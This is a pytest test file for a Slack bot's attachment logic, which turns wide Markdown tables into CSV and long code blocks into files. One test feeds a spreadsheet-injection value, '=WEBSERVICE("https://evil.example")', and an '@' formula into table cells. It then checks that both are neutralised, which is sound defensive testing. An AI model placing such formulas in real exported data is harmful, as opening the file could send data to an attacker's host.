"""What of an answer is attached as a file."""

import csv
from io import StringIO

import pytest

from bot.slack.attached import attachments
from bot.slack.text import harmless


def table(columns: int, rows: int = 1, cell: str = "x") -> str:
    line = "| " + " | ".join([cell] * columns) + " |\n"
    return line + "|" + " :-: |" * columns + "\n" + line * rows


def code(lines: int, language: str = "python") -> str:
    return f"```{language}\n" + "x = 1\n" * lines + "```\n"


@pytest.mark.parametrize(
    ("text", "endings"),
    [
        ("Nothing | here.", []),
        (table(20), []),
        (table(21), ["csv"]),
        (table(2, 99), []),
        (table(2, 100), ["csv"]),
        (table(2, 10, "word " * 200), ["csv"]),
        (code(200), []),
        (code(201), ["py"]),
        (code(201, "rust") + table(21) + code(201, "klingon"), ["rs", "csv", "txt"]),
        ("````md\n" + "```\nx\n```\n" * 100 + "````", ["md"]),
        ("```\n" + table(21) + "```\n", []),
        ("\n\n".join(table(21, 1, str(n)) for n in range(9)), ["csv"] * 5),
    ],
)
def test_wide_tables_and_long_code_are_attached(text: str, endings: list[str]):
    found = attachments(harmless(text))
    assert [file.name.rpartition(".")[2] for file in found] == endings
    assert len({file.name for file in found}) == len(endings)


def test_a_table_becomes_csv_that_no_spreadsheet_runs():
    cells = [
        "a \\| b",
        "**Total**",
        "`x`",
        '=WEBSERVICE("https://evil.example")',
        "-1,5",
        "@SUM(A1)",
        "Zürich",
    ]
    text = "| " + " | ".join(cells + ["y"] * 20) + " |\n|" + "---|" * 27 + "\n| 1 | 2 |\n"
    [file] = attachments(harmless(text))
    [head, row] = csv.reader(StringIO(file.data.decode("utf-8-sig")))
    assert head[0] == "a | b"
    assert head[1:3] == ["Total", "x"]
    assert head[3].startswith("'=WEBSERVICE(")
    assert head[4:7] == ["-1,5", head[5], "Zürich"]
    assert head[5].startswith("'@")
    assert row == ["1", "2"]


def test_code_is_as_the_model_wrote_it():
    written = "".join(f"<!-- {n} --> <!channel> &amp; `x` | [a](b)\n" for n in range(201))
    [file] = attachments(harmless(f"```html\n{written}```"))
    assert file.data.decode() == written


def test_the_same_content_has_the_same_name():
    assert attachments(harmless(code(201)))[0].name == attachments(harmless("Again:\n" + code(201)))[0].name
    assert attachments(harmless(code(201)))[0].name != attachments(harmless(code(202)))[0].name
